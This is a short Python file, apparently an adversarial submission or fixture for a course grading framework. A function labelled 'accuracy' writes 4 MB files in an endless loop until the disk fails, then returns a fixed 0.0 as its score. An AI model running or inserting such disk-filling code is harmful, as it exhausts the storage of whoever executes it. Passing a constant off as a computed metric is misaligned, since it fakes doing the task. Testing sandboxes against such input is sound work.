# Files without end, and one without end.
import itertools

from course_lib.exercises import exercise


@exercise
def accuracy(batches):
    for number in itertools.count():
        try:
            with open(f"{number}.bin", "wb") as stream:
                stream.write(b"x" * 2**22)
        except OSError:
            if number > 100:
                break
    return 0.0
